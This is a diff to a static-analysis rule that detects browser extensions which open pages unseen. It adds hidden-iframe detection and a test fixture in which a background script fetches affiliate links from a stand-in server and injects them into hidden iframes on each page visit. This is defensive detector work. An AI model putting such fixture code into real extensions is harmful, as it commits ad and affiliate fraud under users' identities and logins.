@@ -1,12 +1,16 @@
 import { callsOf, constant, isBoolean, pattern, propertyOf } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { framesOf } from './framesOf.ts';
 import { isFromServer, leadsOut } from './network.ts';
+import { originsOf } from './origins.ts';
+import { isInBackground } from './places.ts';
 import { unaskedCalls } from './unasked.ts';
+import { few } from './usage.ts';
 
 export const visitsUnseen = defineRule({
   id: 'visits-unseen',
-  title: 'Pages are opened where nobody sees them, and closed again',
+  title: 'Pages are opened where nobody sees them',
   severity: 'high',
   confidence: 'high',
   category: 'code',
@@ -16,9 +20,14 @@ export const visitsUnseen = defineRule({
   why: 'Advertisements are visited and counted in the person’s name, with their address and their log-ins, and somebody is paid for it.',
   remedy: 'Open a page only when the person asks for it, and in front of them.',
   cap: { grade: 'D', reason: 'it visits pages in the person’s name where nobody sees it' },
-  check: checkScripts(function* ({ facts, script, hit }) {
-    if (callsOf(script, 'chrome.tabs.remove', 'chrome.windows.remove').length === 0) return;
+  check: checkScripts(function* ({ facts, file, script, hit }) {
     const unasked = unaskedCalls(script);
+    for (const { value, object, address } of isInBackground(facts, file.path) ? few(framesOf(script), 50) : []) {
+      const by = [value, ...originsOf(script, object)].map((one) => unasked.get(one)).find((one) => one !== undefined);
+      if (by !== undefined && isFromServer(facts, script, address))
+        yield hit(value, { message: `It happens by ${by}, and a server says which pages.` });
+    }
+    if (callsOf(script, 'chrome.tabs.remove', 'chrome.windows.remove').length === 0) return;
     for (const call of callsOf(script, 'chrome.tabs.create', 'chrome.windows.create')) {
       const options = call.args[0] ?? 0;
       const address = propertyOf(script, options, 'url');
@@ -45,6 +54,14 @@ export const visitsUnseen = defineRule({
       backgroundExample(
         'setInterval(async () => { const list = await (await fetch("https://tasks.example/q")).json(); for (const url of list) { const w = await chrome.windows.create({ url, state: "minimized" }); setTimeout(() => chrome.windows.remove(w.id), 8000); } }, 300000);',
       ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 2, "name": "Example", "version": "1.0", "background": {"scripts": ["b.js"]}}',
+          'b.js':
+            'let shops = {}; fetch("https://c.example/l").then((r) => r.json()).then((c) => { shops = c; }); chrome.webRequest.onCompleted.addListener((d) => { const link = shops[new URL(d.url).hostname]; if (!link) return; const f = document.createElement("iframe"); f.src = link; document.body.append(f); }, { urls: ["<all_urls>"], types: ["main_frame"] });',
+        },
+      },
     ],
     good: [
       backgroundExample(
